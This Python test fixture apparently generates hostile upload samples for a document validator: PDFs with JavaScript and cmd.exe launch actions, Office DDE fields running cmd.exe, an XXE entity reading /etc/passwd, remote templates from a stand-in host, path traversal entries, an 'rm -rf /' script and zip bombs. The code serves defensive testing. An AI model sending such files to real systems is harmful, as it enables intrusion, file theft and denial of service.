"""Files that pretend, run, fetch, hide or burst: each by what is wrong with it.

`HOSTILE` makes them when asked: some are large. What a file may be refused for is in the tests.
"""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import NameObject, TextStringObject

from tests.submissions.files.samples import (
    MAIN,
    array,
    dictionary,
    odt,
    office,
    office_parts,
    packed_objects,
    pdf,
    stream,
    zip_of,
)

KINDS = ("docx", "xlsx", "pptx")
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {}


def add(what, name, make):
    assert what not in HOSTILE
    HOSTILE[what] = (name, make if callable(make) else lambda: make)


# --- what is no document at all

PAGE = b"<html><script>alert(1)</script></html>"
OTHERS = {
    "web page": PAGE,
    "web page with doctype": b"<!DOCTYPE html>" + PAGE,
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "program of Windows": b"MZ\x90\0" + bytes(200),
    "program of Linux": b"\x7fELF" + bytes(200),
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "gif and script": b"GIF89a=alert(1)//" + bytes(100),
    "old Office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rich text": b"{\\rtf1\\ansi{\\object\\objdata 0105}}",
    "rar": b"Rar!\x1a\x07\0" + bytes(100),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "gzip": b"\x1f\x8b\x08" + bytes(100),
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(100),
    "mail": b"From: a@example.com\nContent-Type: text/html\n\n" + PAGE,
    "zeros": bytes(5000),
    "one byte": b"%",
    "plain archive": zip_of({"a.txt": "a"}),
    "archive of a program": zip_of({"a.exe": b"MZ"}),
    "half of a zip": zip_of({"a.txt": "a" * 100})[:40],
    "end of a zip alone": b"PK\x05\x06" + bytes(18),
    "flash": b"CWS\x0a" + bytes(100),
    "class file": b"\xca\xfe\xba\xbe" + bytes(100),
}  # fmt: skip
for kind in ("pdf", "docx", "odt"):
    for what, content in OTHERS.items():
        add(f"{what} as {kind}", f"a.{kind}", content)

for name in (
    "a.exe",
    "a.svg",
    "a.html",
    "a.docm",
    "a.pdf.html",
    "a.zip",
    "a.rtf",
    "a.doc",
    "a",
    ".pdf",
):
    add(f"not a type we take: {name}", name, functools.partial(pdf))

# --- two things at once

add("page before a pdf", "a.pdf", lambda: PAGE + pdf())
add("blank line before a pdf", "a.pdf", lambda: b"\n" + pdf())
add(
    "page in the head of a pdf",
    "a.pdf",
    lambda: pdf().replace(b"\n", b"\n%<script>x</script>\n", 1),
)
add("svg in the head of a pdf", "a.pdf", lambda: pdf().replace(b"\n", b"\n%<SVG onload=x>\n", 1))
add("pdf and zip", "a.pdf", lambda: pdf() + zip_of({"a.exe": b"MZ"}))
add("pdf and docx", "a.pdf", lambda: pdf() + office("docx"))
add("pdf and docx, called docx", "a.docx", lambda: pdf() + office("docx"))
add("pdf with much behind it", "a.pdf", lambda: pdf() + b"x" * 3000)
add("page before a docx", "a.docx", lambda: PAGE + office("docx"))
add("page behind a docx", "a.docx", lambda: office("docx") + PAGE)
add("gif before a docx", "a.docx", lambda: b"GIF89a" + office("docx"))
add("two archives", "a.docx", lambda: office("docx") + office("docx"))
add("xlsx called docx", "a.docx", lambda: office("xlsx"))
add("odt called docx", "a.docx", odt)
add("docx called odt", "a.odt", lambda: office("docx"))
add("docx called pdf", "a.pdf", lambda: office("docx"))
add("pdf called docx", "a.docx", pdf)


def _with_comment(content):
    return content[:-2] + len(PAGE).to_bytes(2, "little") + PAGE


for kind in KINDS:
    add(
        f"page in the comment of a {kind}",
        f"a.{kind}",
        functools.partial(lambda k: _with_comment(office(k)), kind),
    )

# --- pdf: what runs, sends or hides


def action(**keys):
    return lambda writer: writer._root_object.update(
        {NameObject("/OpenAction"): writer._add_object(dictionary(**keys))}
    )


def on_page(key, value):
    def change(writer):
        writer.pages[0][NameObject(key)] = value

    return change


def annotation(**keys):
    return on_page("/Annots", array(dictionary(Type="/Annot", **keys)))


def names(**keys):
    def change(writer):
        writer._root_object[NameObject("/Names")] = dictionary(**keys)

    return change


def with_file(writer):
    writer.add_attachment("a.exe", b"MZ")


def with_xfa(writer):
    form = dictionary(XFA=writer._add_object(stream(b"<xdp/>")), Fields=array())
    writer._root_object[NameObject("/AcroForm")] = form


ACTS = {
    "script on opening": action(S="/JavaScript", JS="app.alert(1)"),
    "script with its key alone": action(JS="app.alert(1)"),
    "script in a stream": lambda w: action(S="/JavaScript", JS=w._add_object(stream(b"x")))(w),
    "script among the names": names(JavaScript=dictionary(Names=array(TextStringObject("a"), dictionary(S="/JavaScript", JS="x")))),
    "script on a page": on_page("/AA", dictionary(O=dictionary(S="/JavaScript", JS="x"))),
    "script in a link": annotation(Subtype="/Link", A=dictionary(S="/JavaScript", JS="x")),
    "script after a link": annotation(Subtype="/Link", A=dictionary(S="/URI", URI="https://a.example", Next=dictionary(S="/JavaScript", JS="x"))),
    "program started": action(S="/Launch", F="cmd.exe"),
    "program started by a link": annotation(Subtype="/Link", A=dictionary(S="/Launch", Win=dictionary(F="calc.exe"))),
    "file inside": with_file,
    "file as annotation": annotation(Subtype="/FileAttachment", FS=dictionary(EF=dictionary(F="x"))),
    "goes to a file inside": action(S="/GoToE", T=dictionary(R="/C")),
    "form of XFA": with_xfa,
    "form that sends": annotation(Subtype="/Widget", A=dictionary(S="/SubmitForm", F="https://a.example")),
    "form that fetches": action(S="/ImportData", F="a.fdf"),
    "rich media": annotation(Subtype="/RichMedia", RichMediaContent=dictionary(Assets="x")),
    "film": annotation(Subtype="/Movie", Movie=dictionary(F="a.avi")),
    "rendition with a script": action(S="/Rendition", JS="x"),
}  # fmt: skip
for what, change in ACTS.items():
    add(f"pdf with {what}", "a.pdf", functools.partial(pdf, change=change))
    add(
        f"pdf with {what}, packed",
        "a.pdf",
        functools.partial(lambda c: packed_objects(pdf(change=c)), change),
    )


def _in_disguise(name, spelt):
    return lambda: pdf(change=action(S="/JavaScript", JS="app.alert(1)")).replace(name, spelt)


add("pdf with a script spelt in numbers", "a.pdf", _in_disguise(b"/JavaScript", b"/J#61vaScript"))
add("pdf with its key in numbers", "a.pdf", _in_disguise(b"/JS", b"/#4a#53"))
add(
    "pdf with all in numbers",
    "a.pdf",
    _in_disguise(b"/JavaScript", b"/#4A#61#76#61#53#63#72#69#70#74"),
)


def encrypted(user, owner="ejer", algorithm="AES-128"):
    writer = PdfWriter()
    writer.add_blank_page(10, 10)
    writer.encrypt(user, owner, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


add("pdf with a password", "a.pdf", lambda: encrypted("hemmelig"))
add("pdf that opens without its password", "a.pdf", lambda: encrypted(""))


@functools.cache
def _zeros(size, layers):
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(2**20)) for _ in range(size // 2**20)) + packer.flush()
    return data if layers == 1 else zlib.compress(_zeros(size, layers - 1), 9)


def inflating(size, layers=1):
    data = _zeros(size, layers)

    def change(writer):
        made = stream(data)
        flate = NameObject("/FlateDecode")
        made[NameObject("/Filter")] = array(*[flate] * layers) if layers > 1 else flate
        writer.pages[0][NameObject("/Contents")] = writer._add_object(made)

    return change


add("pdf that bursts", "a.pdf", lambda: pdf(change=inflating(300 * 2**20)))
add("pdf that bursts twice", "a.pdf", lambda: pdf(change=inflating(300 * 2**20, layers=2)))
add("pdf that bursts three times", "a.pdf", lambda: pdf(change=inflating(300 * 2**20, layers=3)))


def many_filters(writer):
    made = stream(zlib.compress(b"x"))
    made[NameObject("/Filter")] = array(*[NameObject("/FlateDecode")] * 50)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(made)


def looping_pages(writer):
    kids = writer._root_object["/Pages"]["/Kids"]
    kids.append(writer._root_object.raw_get("/Pages"))


add("pdf of fifty filters", "a.pdf", functools.partial(pdf, change=many_filters))
add("pdf that is its own page", "a.pdf", lambda: LOOP)
add(
    "pdf without pages",
    "a.pdf",
    b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
)
add("pdf without anything", "a.pdf", b"%PDF-1.4\n%%EOF\n")
add("pdf cut off", "a.pdf", lambda: pdf()[:300])
add(
    "pdf of half a million streams",
    "a.pdf",
    lambda: b"%PDF-1.4\n" + b"stream endstream " * 500_000 + b"\n%%EOF\n",
)
add(
    "pdf of a million openings",
    "a.pdf",
    lambda: b"%PDF-1.4\n" + b"1 0 obj<<" * 1_000_000 + b"\n%%EOF\n",
)
add(
    "pdf of deep lists",
    "a.pdf",
    lambda: (
        b"%PDF-1.4\n1 0 obj"
        + b"[" * 200_000
        + b"]" * 200_000
        + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    ),
)
add(
    "pdf that claims to be large",
    "a.pdf",
    lambda: pdf().replace(b"/Size", b"/Size 99999999 /Was", 1),
)
LOOP = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF\n"
)

# --- Office: macros, objects, what fetches


def part(kind, rel, target, content=b"<x/>", *, outside=False, main=""):
    """A document that refers to one more part, or to something outside."""
    folder = MAIN[kind][0].rpartition("/")[0]
    row = ("rId9", rel, target, *(["External"] if outside else []))
    more = {} if outside else {f"{folder}/{target}": content}
    return functools.partial(office, kind, rels=[row], more=more, main=main)


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
for kind in KINDS:
    folder = MAIN[kind][0].rpartition("/")[0]
    file = f"a.{kind}"
    add(
        f"{kind} with macros",
        file,
        part(
            kind,
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
            b"x",
        ),
    )
    add(
        f"{kind} with macros by another name",
        file,
        part(
            kind,
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "theme.bin",
            b"x",
        ),
    )
    add(
        f"{kind} that is a macro document",
        file,
        functools.partial(
            lambda k: zip_of(
                {
                    **(p := office_parts(k)),
                    "[Content_Types].xml": p["[Content_Types].xml"].replace(
                        MAIN[k][1], f"{MAIN[k][1]}/macroEnabled"
                    ),
                }
            ),
            kind,
        ),
    )
    add(
        f"{kind} with an object",
        file,
        part(kind, "oleObject", "embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
    )
    add(
        f"{kind} with an object from outside",
        file,
        part(kind, "oleObject", "http://a.example/x.doc", outside=True),
    )
    add(f"{kind} with a control", file, part(kind, "control", "activeX/activeX1.xml"))
    add(
        f"{kind} with a picture from outside",
        file,
        part(kind, "image", "http://a.example/x.png", outside=True),
    )
    add(
        f"{kind} with a picture on a share",
        file,
        part(kind, "image", "file://///a.example/share/x.png", outside=True),
    )
    add(
        f"{kind} with a template from the net",
        file,
        part(kind, "attachedTemplate", "https://a.example/x.dotm", outside=True),
    )
    add(
        f"{kind} with a page in a frame",
        file,
        part(kind, "frame", "http://a.example/", outside=True),
    )
    add(f"{kind} with a program", file, functools.partial(office, kind, more={"a.exe": b"MZ"}))
    add(
        f"{kind} with an archive",
        file,
        functools.partial(office, kind, more={f"{folder}/media/x.zip": zip_of({"a": "b"})}),
    )
    add(
        f"{kind} with an archive called a picture",
        file,
        part(kind, "image", "media/x.png", zip_of({"a": "b"})),
    )
    add(f"{kind} with a page called a picture", file, part(kind, "image", "media/x.png", PAGE))
    add(
        f"{kind} with a program called a picture",
        file,
        part(kind, "image", "media/x.png", b"MZ\x90"),
    )
    add(
        f"{kind} with a script in a drawing",
        file,
        part(kind, "image", "media/x.svg", b"<svg xmlns='s'><script>x</script></svg>"),
    )
    add(
        f"{kind} with a drawing that wakes",
        file,
        part(kind, "image", "media/x.svg", b"<svg xmlns='s' onload='x'/>"),
    )
    add(f"{kind} with a page as text", file, part(kind, "aFChunk", "chunk.htm", PAGE))
    add(
        f"{kind} with an entity",
        file,
        part(kind, "image", "x.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
    )
    add(
        f"{kind} with entities that grow",
        file,
        part(
            kind,
            "image",
            "x.xml",
            b"<!DOCTYPE a [<!ENTITY b 'bbbbbbbbbb'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>",
        ),
    )
    add(
        f"{kind} with an entity from outside",
        file,
        part(
            kind,
            "image",
            "x.xml",
            b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        ),
    )
    add(
        f"{kind} with an entity among its relations",
        file,
        functools.partial(
            lambda k: office(
                k, more={"_rels/.rels": "<!DOCTYPE a [<!ENTITY b 'c'>]><Relationships/>"}
            ),
            kind,
        ),
    )
    add(
        f"{kind} in UTF-16",
        file,
        part(
            kind, "image", "x.xml", "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16")
        ),
    )
    add(f"{kind} of broken XML", file, part(kind, "image", "x.xml", b"<a><b></a>"))
    add(
        f"{kind} of very deep XML",
        file,
        part(kind, "image", "x.xml", b"<a>" * 100_000 + b"</a>" * 100_000),
    )
    add(
        f"{kind} with a path upwards",
        file,
        functools.partial(office, kind, more={"../../etc/passwd": "x"}),
    )
    add(
        f"{kind} with an absolute path",
        file,
        functools.partial(office, kind, more={"/etc/passwd": "x"}),
    )
    add(
        f"{kind} with a path of Windows",
        file,
        functools.partial(office, kind, more={"..\\..\\a.txt": "x"}),
    )
    add(f"{kind} with a drive", file, functools.partial(office, kind, more={"C:/a.txt": "x"}))
    add(
        f"{kind} with one name twice",
        file,
        functools.partial(office, kind, more={MAIN[kind][0].upper(): "x"}),
    )
    add(
        f"{kind} of too many parts",
        file,
        functools.partial(lambda k: office(k, more={f"x{n}": "" for n in range(2100)}), kind),
    )
    add(
        f"{kind} that bursts",
        file,
        functools.partial(lambda k: office(k, more={"x.xml": bytes(120 * 2**20)}), kind),
    )
    add(f"{kind} cut off", file, functools.partial(lambda k: office(k)[:-30], kind))
    add(
        f"{kind} with a missing part",
        file,
        part(kind, "image", "../../word/nothing.xml", outside=False)
        if False
        else functools.partial(office, kind, rels=[("rId9", "image", "nothing.png")]),
    )

for what, inside in {
    "fetches by DDE": '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
    "fetches by DDE in pieces": "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r></w:p>",
    "fetches by a simple field": '<w:fldSimple w:instr=" DDE cmd x"/>',
    "spells its field in numbers": "<w:p><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r></w:p>",
    "includes a text": '<w:p><w:r><w:instrText>INCLUDETEXT "http://a.example/x"</w:instrText></w:r></w:p>',
    "includes a picture": '<w:p><w:r><w:instrText>INCLUDEPICTURE "http://a.example/x"</w:instrText></w:r></w:p>',
    "includes a picture from a share": '<w:p><w:r><w:instrText>INCLUDEPICTURE "\\\\a.example\\x"</w:instrText></w:r></w:p>',
    "has a macro button": "<w:p><w:r><w:instrText>MACROBUTTON x Tryk</w:instrText></w:r></w:p>",
}.items():
    add(f"docx that {what}", "a.docx", functools.partial(office, "docx", main=inside))

add(
    "xlsx that starts a program",
    "a.xlsx",
    part(
        "xlsx",
        "worksheet",
        "worksheets/sheet1.xml",
        b"<worksheet><f>cmd|'/c calc'!A1</f></worksheet>",
    ),
)
add(
    "xlsx with a link of DDE",
    "a.xlsx",
    part(
        "xlsx",
        "externalLink",
        "externalLinks/externalLink1.xml",
        b"<externalLink><ddeLink ddeService='cmd'/></externalLink>",
    ),
)
add(
    "xlsx with a link of OLE",
    "a.xlsx",
    part(
        "xlsx",
        "externalLink",
        "externalLinks/externalLink1.xml",
        b"<externalLink><oleLink/></externalLink>",
    ),
)
add(
    "xlsx with a sheet of old macros",
    "a.xlsx",
    part(
        "xlsx",
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "macrosheets/sheet1.xml",
    ),
)
add("xlsx with connections", "a.xlsx", part("xlsx", "connections", "connections.xml"))
add(
    "pptx that runs a macro",
    "a.pptx",
    part(
        "pptx",
        "slide",
        "slides/slide1.xml",
        b"<s><hlinkClick action='ppaction://macro?name=x'/></s>",
    ),
)
add(
    "pptx that starts a program",
    "a.pptx",
    part("pptx", "slide", "slides/slide1.xml", b"<s><hlinkClick action='ppaction://program'/></s>"),
)
add(
    "pptx with a film from the net",
    "a.pptx",
    part("pptx", "video", "https://a.example/x.mp4", outside=True),
)

# --- OpenDocument

for what, inside in {
    "listens": "<text:p><script:event-listener script:language='x'/></text:p>",
    "has a script": "<script:script>x</script:script>",
    "draws a picture from the net": "<draw:image xlink:href='http://a.example/x.png'/>",
    "draws a picture from above": "<draw:image xlink:href='../../x.png'/>",
    "holds a frame": "<draw:floating-frame xlink:href='https://a.example'/>",
    "holds an applet": "<draw:applet/>",
    "holds a plugin": "<draw:plugin xlink:href='x'/>",
    "holds an OLE object": "<draw:object-ole xlink:href='Object 1'/>",
    "fetches by DDE": "<text:dde-connection-decl office:dde-application='x'/>",
}.items():
    add(f"odt that {what}", "a.odt", functools.partial(odt, content=inside))
add("odt with Basic", "a.odt", functools.partial(odt, more={"Basic/Standard/a.xml": "<x/>"}))
add(
    "odt with a script in Python",
    "a.odt",
    functools.partial(odt, more={"Scripts/python/a.txt": "x"}),
)
add(
    "odt with a password",
    "a.odt",
    functools.partial(
        odt,
        manifest='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>',
    ),
)
add(
    "odt with an entity",
    "a.odt",
    functools.partial(odt, more={"styles.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
)
add(
    "odt with an archive",
    "a.odt",
    functools.partial(odt, more={"Pictures/a.png": zip_of({"a": "b"})}),
)
add("odt with a page", "a.odt", functools.partial(odt, more={"a.html": PAGE}))
add("odt with a path upwards", "a.odt", functools.partial(odt, more={"../a": "x"}))
add(
    "odt whose type is not first",
    "a.odt",
    lambda: zip_of({"content.xml": "<x/>", "mimetype": "application/vnd.oasis.opendocument.text"}),
)
add("odt that bursts", "a.odt", functools.partial(odt, more={"styles.xml": bytes(120 * 2**20)}))

# --- archives that lie


def lying_about_size(size):
    """The directory says little; the part holds `size` bytes."""
    content = bytearray(part("docx", "image", "x.xml", b"<a>" + b" " * size + b"</a>")())
    for at in _places(content, b"x.xml"):
        for begin, field in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            head = 30 if begin.endswith(b"\x04") else 46
            if content[at - head : at - head + 4] == begin:
                struct.pack_into("<I", content, at - head + field, 100)
    return bytes(content)


def _places(content, name):
    at = content.find(name)
    while at >= 0:
        yield at
        at = content.find(name, at + 1)


def overlapping():
    """Two entries of the directory that share their bytes, as the densest bombs do."""
    content = bytearray(office("docx", more={"x1.xml": b"a" * 5000, "x2.xml": b"a" * 5000}))
    directory = content.rfind(b"PK\x01\x02")
    first = content.find(b"x1.xml") - 30
    struct.pack_into("<I", content, directory + 42, first)
    return bytes(content)


def of_three_gigabytes():
    """Thirty parts of a hundred megabytes, packed once and written thirty times."""
    plain = zip_of({"word/x00.xml": bytes(100 * 2**20)})
    directory = int.from_bytes(plain[-6:-2], "little")
    part, line = plain[:directory], plain[directory:-22]
    parts, lines = [], []
    for number in range(30):
        name = b"word/x%02d.xml" % number
        parts.append(part.replace(b"word/x00.xml", name))
        moved = bytearray(line.replace(b"word/x00.xml", name))
        struct.pack_into("<I", moved, 42, number * len(part))
        lines.append(bytes(moved))
    begins, size = 30 * len(part), sum(map(len, lines))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 30, 30, size, begins, 0)
    return b"".join([*parts, *lines, end])


def of_a_million_entries():
    """A directory with a million lines, one and the same: forty megabytes that want a gigabyte."""
    plain = office("docx")
    directory = int.from_bytes(plain[-6:-2], "little")
    line = plain[directory : plain.find(b"PK\x01\x02", directory + 4)]
    lines = line * (44 * 2**20 // len(line))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65535, 65535, len(lines), directory, 0)
    return plain[:directory] + lines + end


add("docx that lies about its size", "a.docx", lambda: lying_about_size(3 * 2**20))
add("docx whose parts overlap", "a.docx", overlapping)
add("docx of three gigabytes", "a.docx", of_three_gigabytes)
add("docx of a million entries", "a.docx", of_a_million_entries)
add("docx with a locked part", "a.docx", lambda: _flagged(office("docx")))
add("docx packed in a rare way", "a.docx", lambda: _packed_by(zipfile.ZIP_BZIP2))
add("docx packed in another rare way", "a.docx", lambda: _packed_by(zipfile.ZIP_LZMA))
add("docx with damage inside", "a.docx", lambda: _damaged(office("docx")))


def _flagged(content):
    changed = bytearray(content)
    for begin, field in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for at in _places(changed, begin):
            changed[at + field] |= 1
    return bytes(changed)


def _packed_by(method):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in office_parts("docx").items():
            archive.writestr(name, content)
    return file.getvalue()


def _damaged(content):
    changed = bytearray(content)
    at = changed.find(b"word/document.xml") + len("word/document.xml")
    changed[at : at + 12] = b"\xff" * 12
    return bytes(changed)
